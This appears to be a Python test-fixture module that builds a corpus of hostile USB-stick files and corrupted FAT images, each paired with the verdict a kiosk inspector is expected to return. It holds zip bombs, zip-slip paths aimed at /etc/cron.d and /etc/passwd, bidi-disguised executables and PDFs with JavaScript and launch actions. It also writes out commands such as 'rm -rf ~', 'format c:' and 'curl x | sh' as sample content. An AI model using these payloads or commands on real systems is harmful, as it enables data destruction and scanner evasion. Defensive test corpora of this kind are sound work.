"""The hostile USB-stick corpus, generated at test time: each case with its expected verdict.

`write_tree` lays the cases out as a folder; `folder_extras` adds what only a mounted folder can
hold (links, a FIFO, control characters in names); `make_fat_image` copies a tree into a FAT
image with mkfs.vfat and mtools; the `fat_*` builders then patch a small image's bytes for the
attacks on FAT itself. Nothing is downloaded; the EICAR test string is put together here from
pieces so that the repository holds no copy of it.
"""

from __future__ import annotations

import gzip
import io
import os
import random
import struct
import subprocess
import warnings
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from PIL import Image

from kiosk.bench_usb import text_pdf

MB = 1024 * 1024
RLO, LRI, PDI = "\u202e", "\u2066", "\u2069"


@dataclass(frozen=True)
class Case:
    """A file (or folder) of the stick and the verdict it must get.

    `rebuilt` is the verdict `kiosk inspect` gives once the sandbox has rebuilt it, when that
    differs from the classification's.
    """

    what: str
    path: str  # raw names joined by "/"
    verdict: str
    reason: str | None
    rebuilt: tuple[str, str | None] | None = None
    is_dir: bool = False

    @property
    def parts(self) -> tuple[str, ...]:
        return tuple(self.path.split("/"))


def eicar() -> bytes:
    """The antivirus test string, from pieces."""
    pieces = ("X5O!P%@AP[4\\PZX54(P^)7CC)7}$", "EICAR-STANDARD-", "ANTIVIRUS-", "TEST-FILE!",
              "$H+H*")
    return "".join(pieces).encode()


def jpeg(size: tuple[int, int] = (64, 48)) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", size, (200, 120, 40)).save(buffer, "JPEG", quality=80)
    return buffer.getvalue()


def png(size: tuple[int, int] = (32, 32)) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", size, (20, 120, 240)).save(buffer, "PNG")
    return buffer.getvalue()


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_bomb() -> bytes:
    """A PNG whose header claims 100,000 x 100,000 pixels, over a few bytes of data."""
    header = struct.pack(">IIBBBBB", 100_000, 100_000, 8, 2, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header)
            + _chunk(b"IDAT", zlib.compress(bytes(4096), 9)) + _chunk(b"IEND", b""))


def jpeg_bomb() -> bytes:
    """A JPEG whose frame header claims 65,500 x 65,500 pixels."""
    data = bytearray(jpeg())
    at = data.index(b"\xff\xc0")
    data[at + 5:at + 9] = struct.pack(">HH", 65_500, 65_500)
    return bytes(data)


def zipped(*members: tuple[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as package:
        for name, data in members:
            package.writestr(name, data)
    return buffer.getvalue()


def zip_bomb(member: str = "zeros.bin", inflated: int = 100 * MB,
             first: tuple[str, bytes] | None = None) -> bytes:
    """A zip of ~100 KB whose member inflates to `inflated` bytes (written as a stream)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as package:
        if first:
            package.writestr(*first)
        with package.open(member, "w", force_zip64=True) as stream:
            block = b" " * MB
            for _ in range(inflated // MB):
                stream.write(block)
        package.writestr("word/document.xml", b"<w:document/>")
    return buffer.getvalue()


def pdf(catalog_extra: bytes = b"", objects: tuple[bytes, ...] = (), version: bytes = b"1.7",
        text: str = "Attestation") -> bytes:
    """A one-page PDF with `catalog_extra` in its catalog and `objects` numbered from 5."""
    content = f"BT /F1 24 Tf 72 720 Td ({text}) Tj ET".encode()
    bodies = [
        b"<</Type /Catalog /Pages 2 0 R " + catalog_extra + b">>",
        b"<</Type /Pages /Kids [3 0 R] /Count 1>>",
        b"<</Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
        b"/Resources <</Font <</F1 <</Type /Font /Subtype /Type1 /BaseFont /Helvetica>>>>>>>>",
        b"<</Length %d>>\nstream\n" % len(content) + content + b"\nendstream",
        *objects,
    ]
    out = bytearray(b"%PDF-" + version + b"\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(bodies, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(bodies) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer <</Size %d /Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (len(bodies) + 1, xref)
    return bytes(out)


_EMBEDDED = (b"<</Type /Filespec /F (tool.exe) /UF (tool.exe) /EF <</F 6 0 R>>>>",
             b"<</Type /EmbeddedFile /Length 4>>\nstream\nMZ\x90\x00\nendstream")


def pdf_hidden_javascript() -> bytes:
    """JavaScript only inside a deflated object stream, its name hex-escaped too."""
    hidden = b"5 0 <</S /J#61vaScript /JS (app.alert\\(1\\))>>"
    packed = zlib.compress(hidden)
    stream = (b"<</Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d>>\nstream\n"
              % len(packed) + packed + b"\nendstream")
    return pdf(b"/OpenAction 5 0 R", (b"null", stream))


def encrypted_pdf() -> bytes:
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf())))
    writer.encrypt("secret", algorithm="RC4-128")
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def ole(stream_name: str = "WordDocument") -> bytes:
    """The start of an OLE compound file, with a directory entry name in UTF-16."""
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504) + stream_name.encode("utf-16-le") \
        + bytes(4096)


def ooxml(*extra: tuple[str, bytes], types: bytes = b"<Types/>") -> bytes:
    return zipped(("[Content_Types].xml", types), ("_rels/.rels", b"<Relationships/>"),
                  ("word/document.xml", b"<w:document/>"), *extra)


def odt(*extra: tuple[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr("mimetype", "application/vnd.oasis.opendocument.text",
                         compress_type=zipfile.ZIP_STORED)
        package.writestr("content.xml", "<office:document-content/>")
        package.writestr("META-INF/manifest.xml", "<manifest/>")
        for name, data in extra:
            package.writestr(name, data)
    return buffer.getvalue()


LNK = b"L\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00\xc0\x00\x00\x00\x00\x00\x00F" + bytes(60)
PE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + bytes(50) + b"PE\x00\x00" + bytes(200)
ELF = b"\x7fELF\x02\x01\x01\x00" + bytes(120)
DESKTOP = b"[Desktop Entry]\nType=Application\nName=Photos\nExec=sh -c 'curl x | sh'\n"
SVG = (b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
       b"<script>alert(1)</script></svg>\n")
HTML = b"<!DOCTYPE html>\n<html><body><script>location='http://x'</script></body></html>\n"
TEXT = "Attestation de la CAF — reçu le 3 février\nMontant : 123,45 €\n".encode()
BIG = 50 * MB + 1
_FOLDER_DEPTH = 40

R, F, H = "ready", "refused", "hidden"
ACTIVE = (R, "active_content_removed")

# (what, path, verdict, reason, content, rebuilt)
FILES: list[tuple[str, str, str, str | None, bytes | Callable[[], bytes],
                  tuple[str, str | None] | None]] = [
    ("a clean PDF", "docs/attestation.pdf", R, None, pdf, None),
    ("a clean JPEG", "docs/photo.jpg", R, None, jpeg, None),
    ("a clean PNG", "docs/scan.png", R, None, png, None),
    ("a clean text", "docs/lettre.txt", R, None, TEXT, None),
    ("a clean docx", "docs/cv.docx", R, None, ooxml, None),
    ("a clean odt", "docs/cv.odt", R, None, odt, None),
    ("EICAR as a DOS program", "virus/eicar.com", F, "mismatch", eicar, None),
    ("EICAR disguised as a PDF", "virus/eicar.pdf", F, "mismatch", eicar, None),
    # No antivirus here: EICAR is printable text, and as a .txt it is a text (rebuilt as such).
    ("EICAR as a text", "virus/eicar.txt", R, None, eicar, None),
    ("a zip bomb", "archives/bomb.zip", F, "archive", zip_bomb, None),
    ("a zip bomb dressed as a docx", "archives/bomb.docx", F, "unknown_type",
     lambda: zip_bomb("[Content_Types].xml", 8 * MB), None),
    ("zip-slip names", "archives/slip.zip", F, "archive",
     lambda: zipped(("../../../../etc/cron.d/x", b"* * * * * root sh\n"),
                    ("/etc/passwd", b"root::0:0::/:/bin/sh\n")), None),
    ("zip-slip names dressed as a docx", "archives/slip.docx", F, "archive",
     lambda: zipped(("../../evil.docx", b"x")), None),
    ("nested archives", "archives/nested.zip", F, "archive",
     lambda: zipped(("inner.zip", zipped(("core.zip", zipped(("a.exe", PE))))),), None),
    ("a gzip", "archives/photos.tar.gz", F, "archive", lambda: gzip.compress(b"x" * 100), None),
    ("right-to-left override hiding .exe", f"names/Facture{RLO}gpj.exe", F, "executable", PE,
     None),
    ("right-to-left override on a real PDF", f"names/rapport{RLO}fdp.pdf", R, None, pdf, None),
    ("bidi isolates around a name", f"names/{LRI}photo{PDI}.jpg", R, None, jpeg, None),
    ("a Windows program named .pdf", "disguised/facture.pdf", F, "executable", PE, None),
    ("a Linux program named .jpg", "disguised/photo.jpg", F, "executable", ELF, None),
    ("a shell script named .pdf", "disguised/scan.pdf", F, "script",
     b"#!/bin/sh\nrm -rf ~\n", None),
    ("a batch file named .jpg", "disguised/holiday.jpg", F, "script",
     b"@echo off\r\nformat c:\r\n", None),
    ("a PowerShell script", "disguised/setup.ps1", F, "script", b"Invoke-WebRequest x\n", None),
    ("a program", "disguised/setup.exe", F, "executable", PE, None),
    ("a .desktop launcher", "shortcuts/Photos.desktop", F, "shortcut", DESKTOP, None),
    ("a Windows .lnk", "shortcuts/Documents.lnk", F, "shortcut", LNK, None),
    ("an internet shortcut", "shortcuts/site.url", F, "shortcut",
     b"[InternetShortcut]\r\nURL=http://x\r\n", None),
    ("autorun.inf", "autorun.inf", F, "autorun", b"[autorun]\r\nopen=setup.exe\r\n", None),
    ("a PDF with JavaScript", "pdf/javascript.pdf", R, None,
     lambda: pdf(b"/OpenAction <</S /JavaScript /JS (app.alert\\(1\\))>>"), ACTIVE),
    ("a PDF with a launch action", "pdf/launch.pdf", R, None,
     lambda: pdf(b"/OpenAction <</S /Launch /F (cmd.exe) /NewWindow true>>"), ACTIVE),
    ("a PDF with an embedded file", "pdf/embedded.pdf", R, None,
     lambda: pdf(b"/Names <</EmbeddedFiles <</Names [(tool.exe) 5 0 R]>>>>", _EMBEDDED),
     ACTIVE),
    ("a PDF 2.0 with an associated file (/AF)", "pdf/associated.pdf", R, None,
     lambda: pdf(b"/AF [5 0 R]", _EMBEDDED, b"2.0"), ACTIVE),
    ("a PDF with JavaScript in an object stream", "pdf/hidden-js.pdf", R, None,
     pdf_hidden_javascript, ACTIVE),
    ("an encrypted PDF", "pdf/encrypted.pdf", F, "encrypted", encrypted_pdf, None),
    ("a truncated PDF", "pdf/truncated.pdf", R, None, lambda: text_pdf(3)[:600],
     (F, "unreadable")),
    ("a PDF+ZIP polyglot", "pdf/polyglot.pdf", R, None,
     lambda: pdf() + zipped(("payload.exe", PE)), ACTIVE),
    ("an image with an appended archive", "images/appended.jpg", R, None,
     lambda: jpeg() + zipped(("payload.exe", PE)), ACTIVE),
    ("a PNG pixel bomb", "images/bomb.png", F, "too_large", png_bomb, None),
    ("a JPEG pixel bomb", "images/bomb.jpg", F, "too_large", jpeg_bomb, None),
    ("a real PNG named .pdf", "images/scan.pdf", F, "mismatch", png, None),
    ("random bytes named .pdf", "images/noise.pdf", F, "unknown_type",
     lambda: random.Random(1).randbytes(4096).replace(b"\x00", b"\x01") + b"\x00", None),
    ("an SVG with script", "web/logo.svg", F, "svg", SVG, None),
    ("an HTML page with script", "web/page.html", F, "html", HTML, None),
    ("an HTML page named .txt", "web/notes.txt", F, "html", HTML, None),
    ("a macro-enabled docx", "office/macro.docx", F, "macro",
     lambda: ooxml(("word/vbaProject.bin", b"\xd0\xcf\x11\xe0macro")), None),
    ("an odt with Basic macros", "office/macro.odt", F, "macro",
     lambda: odt(("Basic/Standard/Module1.xml", b"<script/>")), None),
    ("an encrypted docx", "office/encrypted.docx", F, "encrypted",
     lambda: ole("EncryptedPackage"), None),
    ("a legacy .doc", "office/old.doc", F, "unknown_type", ole, None),
    ("an empty file", "sizes/empty.pdf", F, "empty", b"", None),
    ("a file over 50 MB", "sizes/big.pdf", F, "too_large",
     lambda: b"%PDF-1.4\n" + bytes(BIG - 9), None),
    ("Windows leftovers", "Thumbs.db", H, None, b"\xd0\xcf\x11\xe0", None),
    ("Windows leftovers", "desktop.ini", H, None, b"[.ShellClassInfo]\r\n", None),
    ("macOS leftovers", ".DS_Store", H, None, b"\x00\x00\x00\x01Bud1", None),
    ("macOS resource forks", "docs/._photo.jpg", H, None, b"\x00\x05\x16\x07", None),
]
FOLDERS: list[tuple[str, str, str, str | None]] = [
    ("a system folder", "System Volume Information", H, None),
    ("the recycle bin", "$RECYCLE.BIN", H, None),
    ("macOS's trash", ".Trashes", H, None),
    ("very deep folders", "deep/" + "/".join(["d"] * 31), F, "too_deep"),
]


def cases() -> list[Case]:
    """Every case a folder and a FAT image both hold."""
    found = [Case(what, path, verdict, reason, rebuilt)
             for what, path, verdict, reason, _, rebuilt in FILES]
    found += [Case(what, path, verdict, reason, is_dir=True)
              for what, path, verdict, reason in FOLDERS]
    return found


def write_tree(root: Path) -> list[Case]:
    """Lay the portable cases out under `root`."""
    for _, path, _, _, content, _ in FILES:
        target = root / path
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_bytes(content if isinstance(content, bytes) else content())
    for _, path, _, _ in FOLDERS:
        (root / path).mkdir(parents=True, exist_ok=True)
    (root / "System Volume Information" / "IndexerVolumeGuid").write_bytes(b"{x}")
    (root / "$RECYCLE.BIN" / "$IABCDEF.exe").write_bytes(PE)
    (root / ".Trashes" / "501").mkdir()
    deepest = root / "deep" / "/".join(["d"] * (_FOLDER_DEPTH - 1))
    deepest.mkdir(parents=True)
    (deepest / "bottom.txt").write_bytes(TEXT)
    return cases()


CONTROL_NAME = "bad\x01\x1b[2Jname\x7f.txt"
FOLDER_EXTRAS = [
    Case("a link to /etc/passwd", "special/passwd.pdf", F, "symlink"),
    Case("a link to the root", "special/root", F, "symlink"),
    Case("a link to itself", "special/loop", F, "symlink"),
    Case("a FIFO", "special/pipe.pdf", F, "special"),
    Case("control characters in a name", f"names/{CONTROL_NAME}", R, None),
]


def folder_extras(root: Path) -> list[Case]:
    """What only a mounted folder holds: links out of the stick, a FIFO, control characters."""
    special = root / "special"
    special.mkdir()
    (special / "passwd.pdf").symlink_to("/etc/passwd")
    (special / "root").symlink_to("/")
    (special / "loop").symlink_to("loop")
    os.mkfifo(special / "pipe.pdf")
    (root / "names" / CONTROL_NAME).write_bytes(TEXT)
    return FOLDER_EXTRAS


def many_files(root: Path, count: int) -> None:
    folder = root / "many"
    folder.mkdir(parents=True)
    for index in range(count):
        (folder / f"f{index:05d}.txt").write_bytes(b"x\n")


# --- FAT images -------------------------------------------------------------------------------

_ENV = {**os.environ, "LC_ALL": "C.UTF-8", "MTOOLS_SKIP_CHECK": "1"}


def make_fat_image(image: Path, tree: Path | None, size_mb: int = 96, fat: int = 32,
                   cluster_sectors: int | None = None) -> None:
    """A FAT image by mkfs.vfat, filled from `tree` with mcopy."""
    with image.open("wb") as file:
        file.truncate(size_mb * MB)
    command = ["mkfs.vfat", "-F", str(fat), "-n", "STICK"]
    if cluster_sectors:
        command += ["-s", str(cluster_sectors)]
    subprocess.run([*command, str(image)], check=True, capture_output=True)
    if tree is not None:
        tops = sorted(str(p) for p in tree.iterdir())
        subprocess.run(["mcopy", "-s", "-Q", "-i", str(image), *tops, "::/"], check=True,
                       capture_output=True, env=_ENV)


def pyfat_image(image: Path, files: dict[str, bytes], size_mb: int = 8) -> Path:
    """A FAT16 image made by pyfatfs itself (no mtools needed) holding ``files``, named by
    their path from the root ("photos/plage.jpg"); folders are made as needed."""
    from pyfatfs.PyFat import PyFat
    from pyfatfs.PyFatFS import PyFatFS

    with image.open("wb") as file:
        file.truncate(size_mb * 1024 * 1024)
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        maker = PyFat()
        maker.mkfs(str(image), fat_type=PyFat.FAT_TYPE_FAT16, size=size_mb * 1024 * 1024)
        maker.close()
        fs = PyFatFS(str(image))
        for name, data in files.items():
            folder = name.rpartition("/")[0]
            if folder and not fs.exists(f"/{folder}"):
                fs.makedirs(f"/{folder}")
            fs.writebytes(f"/{name}", data)
        fs.close()
    return image


def mcopy_in(image: Path, name: str, data: bytes, work: Path) -> None:
    source = work / name.split("/")[-1]
    source.write_bytes(data)
    subprocess.run(["mcopy", "-Q", "-i", str(image), str(source), f"::/{name}"], check=True,
                   capture_output=True, env=_ENV)
    source.unlink()


def mmd(image: Path, *folders: str) -> None:
    subprocess.run(["mmd", "-i", str(image), *(f"::/{f}" for f in folders)], check=True,
                   capture_output=True, env=_ENV)


@dataclass(frozen=True)
class Fat16:
    """Offsets in a FAT16 image, to patch it."""

    bps: int
    spc: int
    fat_at: int
    fat_bytes: int
    fats: int
    root_at: int
    data_at: int

    @classmethod
    def read(cls, image: Path) -> Fat16:
        boot = image.read_bytes()[:512]
        bps, spc, reserved, fats, entries, _, _, fat_sectors = struct.unpack_from(
            "<HBHBHHBH", boot, 11)
        root_at = (reserved + fats * fat_sectors) * bps
        return cls(bps, spc, reserved * bps, fat_sectors * bps, fats, root_at,
                   root_at + entries * 32)

    def cluster_at(self, cluster: int) -> int:
        return self.data_at + (cluster - 2) * self.bps * self.spc

    def entry(self, data: bytes, short: bytes, start: int | None = None) -> int:
        """Offset of the directory entry with the 11-byte `short` name."""
        at = start if start is not None else self.root_at
        while True:
            at = data.index(short, at)
            if at % 32 == 0:
                return at
            at += 1

    def set_next(self, data: bytearray, cluster: int, following: int) -> None:
        for copy in range(self.fats):
            struct.pack_into("<H", data, self.fat_at + copy * self.fat_bytes + 2 * cluster,
                             following)

    def chain(self, data: bytes, first: int) -> list[int]:
        found = [first]
        while True:
            following = struct.unpack_from("<H", data, self.fat_at + 2 * found[-1])[0]
            if following >= 0xFFF8:
                return found
            found.append(following)


def _small_image(image: Path, work: Path, files: dict[str, bytes], size_mb: int = 4) -> Fat16:
    make_fat_image(image, None, size_mb=size_mb, fat=16, cluster_sectors=1)
    for name, data in files.items():
        mcopy_in(image, name, data, work)
    return Fat16.read(image)


def _first_cluster(data: bytes, at: int) -> int:
    return struct.unpack_from("<H", data, at + 26)[0]


def fat_duplicate_names(image: Path, work: Path) -> list[Case]:
    """Two entries named A.TXT (the second renamed in place): the first wins."""
    fat = _small_image(image, work, {"A.TXT": b"first\n", "B.TXT": b"second\n"})
    data = bytearray(image.read_bytes())
    at = fat.entry(data, b"B       TXT")
    data[at:at + 11] = b"A       TXT"
    image.write_bytes(data)
    return [Case("the first of two equal names", "A.TXT", R, None),
            Case("the second of two equal names", "A.TXT", F, "unreadable")]


def fat_circular_chain(image: Path, work: Path) -> list[Case]:
    """A file whose last cluster points back to its first, beside a sound file."""
    fat = _small_image(image, work, {"LOOP.TXT": TEXT * 40, "OK.TXT": TEXT})
    data = bytearray(image.read_bytes())
    chain = fat.chain(data, _first_cluster(data, fat.entry(data, b"LOOP    TXT")))
    assert len(chain) >= 3
    fat.set_next(data, chain[-1], chain[0])
    image.write_bytes(data)
    return [Case("a circular cluster chain", "LOOP.TXT", F, "unreadable"),
            Case("a sound file beside it", "OK.TXT", R, None)]


def fat_circular_directory(image: Path, work: Path) -> list[Case]:
    """A folder whose cluster chain loops, and a folder that contains its own parent."""
    fat = _small_image(image, work, {})
    mmd(image, "SUB", "OUTER", "OUTER/INNER")
    for index in range(40):  # 40 entries: SUB spans three 512-byte clusters
        mcopy_in(image, f"SUB/F{index:02d}.TXT", b"x\n", work)
    mcopy_in(image, "OK.TXT", TEXT, work)
    data = bytearray(image.read_bytes())
    sub = fat.chain(data, _first_cluster(data, fat.entry(data, b"SUB        ")))
    fat.set_next(data, sub[-1], sub[0])
    outer = _first_cluster(data, fat.entry(data, b"OUTER      "))
    inner = fat.entry(data, b"INNER      ", fat.cluster_at(outer))
    struct.pack_into("<H", data, inner + 26, outer)
    image.write_bytes(data)
    return [Case("a folder whose chain loops", "SUB", F, "unreadable", is_dir=True),
            Case("a folder around a loop", "OUTER", R, None, is_dir=True),
            Case("a folder that is its own parent", "OUTER/INNER", F, "unreadable",
                 is_dir=True),
            Case("a sound file beside them", "OK.TXT", R, None)]


def fat_broken_chains(image: Path, work: Path) -> list[Case]:
    """A chain that leaves the volume, a size beyond the chain, and a cross-linked file."""
    fat = _small_image(image, work, {"FAR.TXT": TEXT, "LONG.TXT": TEXT, "SHARED1.TXT": TEXT,
                                     "SHARED2.TXT": b"other\n", "OK.TXT": TEXT})
    data = bytearray(image.read_bytes())
    struct.pack_into("<H", data, fat.entry(data, b"FAR     TXT") + 26, 0xFF00)
    struct.pack_into("<I", data, fat.entry(data, b"LONG    TXT") + 28, 10 * MB)
    first = _first_cluster(data, fat.entry(data, b"SHARED1 TXT"))
    struct.pack_into("<H", data, fat.entry(data, b"SHARED2 TXT") + 26, first)
    struct.pack_into("<I", data, fat.entry(data, b"SHARED2 TXT") + 28, len(TEXT))
    image.write_bytes(data)
    return [Case("a chain out of the volume", "FAR.TXT", F, "unreadable"),
            Case("a size beyond its chain", "LONG.TXT", F, "unreadable"),
            Case("the first of two cross-linked files", "SHARED1.TXT", R, None),
            Case("the second of two cross-linked files", "SHARED2.TXT", F, "unreadable"),
            Case("a sound file beside them", "OK.TXT", R, None)]


def fat_control_name(image: Path, work: Path) -> list[Case]:
    """Control characters written into a long name (mtools refuses to write them)."""
    _small_image(image, work, {"ctlAAname.txt": TEXT})
    data = image.read_bytes()
    patched = data.replace("ctlAA".encode("utf-16-le"), "ctl\x01\x1b".encode("utf-16-le"), 1)
    assert patched != data
    image.write_bytes(patched)
    return [Case("control characters in a long name", "ctl\x01\x1bname.txt", R, None)]


def fat_garbage_tables(image: Path, work: Path) -> None:
    """A sound boot sector over FATs and a root directory of random bytes."""
    fat = _small_image(image, work, {"OK.TXT": TEXT})
    data = bytearray(image.read_bytes())
    noise = random.Random(5).randbytes(fat.data_at - fat.fat_at)
    data[fat.fat_at:fat.data_at] = noise
    image.write_bytes(data)


def fuzz_base(image: Path, work: Path) -> Fat16:
    """A small FAT16 image with a few files and a folder, for `fuzzed`."""
    fat = _small_image(image, work, {"A.TXT": TEXT * 50, "B.PDF": pdf(), "C.JPG": jpeg(),
                                     "Long name.txt": TEXT})
    mmd(image, "SUB")
    mcopy_in(image, "SUB/D.TXT", TEXT, work)
    return fat


def fuzzed(original: bytes, fat: Fat16, seed: int) -> bytes:
    """`original` with up to 40 random bytes changed in its boot sector, FATs, root directory
    and first clusters."""
    rng = random.Random(seed)
    regions = [(0, 90), (fat.fat_at, fat.fat_at + 512),
               (fat.fat_at + fat.fat_bytes, fat.fat_at + fat.fat_bytes + 512),
               (fat.root_at, fat.root_at + 1024), (fat.data_at, fat.data_at + 8192)]
    data = bytearray(original)
    for _ in range(rng.randint(1, 40)):
        start, end = rng.choice(regions)
        data[rng.randrange(start, end)] = rng.randrange(256)
    return bytes(data)


def garbage_image(image: Path) -> None:
    """Random bytes, with a boot signature so that it looks like a disk at a glance."""
    data = bytearray(random.Random(9).randbytes(4 * MB))
    data[510:512] = b"\x55\xaa"
    image.write_bytes(data)


FAT_ATTACKS: dict[str, Callable[[Path, Path], list[Case]]] = {
    "duplicate names": fat_duplicate_names,
    "circular cluster chain": fat_circular_chain,
    "circular folders": fat_circular_directory,
    "broken chains": fat_broken_chains,
    "control characters": fat_control_name,
}
